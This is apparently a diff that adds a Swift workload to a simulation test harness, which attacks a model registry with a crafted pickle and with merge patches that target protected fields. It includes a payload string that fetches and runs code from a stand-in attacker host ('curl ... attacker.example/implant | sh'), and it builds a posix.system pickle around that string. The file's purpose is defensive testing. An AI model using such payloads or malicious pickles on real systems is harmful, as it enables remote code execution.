@@ -1,0 +1,89 @@
+import SimKernel
+import SimServices
+import Yams
+
+/// Attacks on model files and model records, through the gateway from the `client` node, as
+/// ml-engineer (a scientist of t1). A **smuggler** registers a genuine serving artifact of
+/// `churn-scorer` and promotes it, then tries to register, in turn, a pickled model whose
+/// `__reduce__` calls `posix.system` (the brief's "pickle unsafe"), a pickled model without a
+/// payload, and a file of no known format; each must be refused and logged, and a registration
+/// that gets through is promoted to Production, so every inference replica loads it. A **patcher**
+/// updates its model `fraud-scorer` every `interval_ms` with a merge patch of its description,
+/// and every third time adds a protected field (the tenant, the revision, the id): the patch must
+/// be refused whole, and no protected field may ever change.
+public struct ArtifactAttacksWorkload: Workload {
+    public static let name = "artifact_attacks"
+    public static let requiredRoles = ["client", "gateway", "auth", "models", "registry", "inference"]
+    public static let keys = ["patches", "interval_ms"]
+
+    public var patches = 30
+    public var intervalMillis = 300
+
+    public static let model = "churn-scorer", patchedModel = "fraud-scorer"
+    static let weights: [Float] = [0.4, -1.2, 0.7, 0.1]
+    /// The command the crafted file's payload runs when unpickled.
+    public static let payload = "curl -s https://attacker.example/implant | sh"
+    /// The files the smuggler tries to register after the genuine one: what each is.
+    public static let crafted: [(what: String, bytes: [UInt8])] = [
+        ("pickle with a posix.system payload", LegacyPickle.file(weights: weights, callable: "posix.system", payload: payload)),
+        ("pickle of plain weights", LegacyPickle.file(weights: weights)),
+        ("file of no known format", Array("weights: 0.4,-1.2,0.7,0.1\n".utf8)),
+    ]
+    /// The protected fields the patcher slips into every third patch, in turn.
+    public static let protectedPatches = [#"{"description":"moved","tenant":"t2"}"#, #"{"description":"rewound","revision":"0"}"#, #"{"id":"1"}"#]
+
+    public init() {}
+
+    public init(reading node: Yams.Node?, field: String, reader: FieldReader) throws(ScenarioError) {
+        guard let node else { return }
+        for (key, value, _) in try reader.mapping(node, field, allowed: Self.keys) {
+            let path = "\(field).\(key)"
+            switch key {
+            case "patches": patches = Int(try reader.integer(value, path, in: 1 ... 100_000))
+            default: intervalMillis = Int(try reader.integer(value, path, in: 1 ... 600_000))
+            }
+        }
+    }
+
+    public func install(on platform: Platform) {
+        guard let client = platform.topology.nodes(role: "client").first.flatMap({ platform.node($0.name) }),
+              let gateway = platform.directory.services["gateway"] else { return }
+        let patches = self.patches, interval = Int64(intervalMillis) * Nanos.millisecond
+        /// Asks until definitive; a 2xx answer's body, or nil for a refusal.
+        func ask(_ context: ProcessContext, _ request: HTTPRequest) async -> [String: String]? {
+            let response = await context.askUntilDefinitive(gateway, request)
+            return (200 ..< 300).contains(response.status) ? response.body : nil
+        }
+        func token(_ context: ProcessContext) async -> String {
+            while true {
+                if let token = await ask(context, HTTPRequest("POST", "auth/token", body: ["user": "ml-engineer", "api_key": "k-ml-engineer"]))?["token"] { return token }
+                await context.sleep(nanoseconds: 500 * Nanos.millisecond)
+            }
+        }
+        func create(_ context: ProcessContext, _ name: String, _ token: String) async {
+            while await ask(context, HTTPRequest("POST", "models/create", body: ["name": name, "signature": "f0:float,f1:float,f2:float"], headers: ["authorization": token])) == nil {
+                await context.sleep(nanoseconds: 500 * Nanos.millisecond)
+            }
+        }
+        client.addProcess("smuggler") { context in
+            let token = await token(context)
+            await create(context, Self.model, token)
+            let genuine = ModelArtifact(model: Self.model, version: 1, residentMiB: 64, weights: Self.weights).encoded
+            for bytes in [genuine] + Self.crafted.map(\.bytes) {
+                let registration = HTTPRequest("POST", "registry/versions", body: ["model": Self.model, "artifact": hexBytes(bytes), "checksum": hexString(crc32(bytes))], headers: ["authorization": token])
+                guard let version = await ask(context, registration)?["version"] else { continue }  // refused: the next one
+                _ = await ask(context, HTTPRequest("POST", "registry/stages", body: ["model": Self.model, "version": version, "stage": "Production"], headers: ["authorization": token]))
+                await context.sleep(nanoseconds: interval)
+            }
+        }
+        client.addProcess("patcher") { context in
+            let token = await token(context)
+            await create(context, Self.patchedModel, token)
+            for i in 0 ..< patches {
+                await context.sleep(nanoseconds: interval)
+                let patch = i % 3 == 2 ? Self.protectedPatches[(i / 3) % Self.protectedPatches.count] : #"{"description":"revision note \#(i)"}"#
+                _ = await ask(context, HTTPRequest("POST", "models/update", body: ["name": Self.patchedModel, "patch": patch], headers: ["authorization": token]))
+            }
+        }
+    }
+}
